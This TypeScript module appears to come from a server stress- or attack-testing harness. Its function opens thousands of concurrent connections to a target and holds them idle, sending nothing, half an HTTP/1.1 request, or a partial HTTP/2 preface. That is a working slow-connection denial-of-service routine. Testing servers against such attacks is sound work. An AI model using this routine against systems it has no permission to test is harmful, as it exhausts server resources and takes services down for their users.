import { requestFor } from '../../raw-http/raw-http1.ts'
import type { RawSocket } from '../../raw-http/raw-socket.ts'
import { type AttackReport, type AttackTarget, type HoldOptions, hold, repeat } from '../attack.ts'
import { ConnectionGroup } from '../connection-group.ts'

const CONCURRENCY = 32

/** What the client sends first: nothing, half a request, a whole request, a part of the HTTP/2 preface, or HTTP/2 SETTINGS. */
export type IdleKind = 'silent' | 'half' | 'kept' | 'preface' | 'settings'

/** Opens connections and leaves them idle. */
export async function idleConnections(
  target: AttackTarget,
  options: HoldOptions & { idle: IdleKind; connections?: number },
): Promise<AttackReport> {
  const { connections = 4096, idle, signal } = options
  const group = new ConnectionGroup(target, signal)
  try {
    const { done, failed } = await repeat(
      { times: connections, concurrency: CONCURRENCY, signal },
      async () => {
        if (idle === 'settings') await group.openHttp2()
        else await startIdle(await group.openSocket(idle === 'preface' ? 'h2' : 'http/1.1'), idle)
      },
    )
    await hold(options)
    return { done, failed, open: group.open }
  } finally {
    group.close()
  }
}

async function startIdle(socket: RawSocket, idle: Exclude<IdleKind, 'settings'>): Promise<void> {
  const answered = new Promise<void>((resolve) => socket.onBytes(() => resolve()))
  socket.readAll()
  if (idle === 'half') await socket.send('GET /v2/ HTTP/1.1\r\nHost: x\r\nX-')
  if (idle === 'preface') await socket.send('PRI * HTTP/2.0\r\n\r\nSM')
  if (idle !== 'kept') return
  await socket.send(requestFor('/v2/'))
  await Promise.race([answered, socket.ended])
}
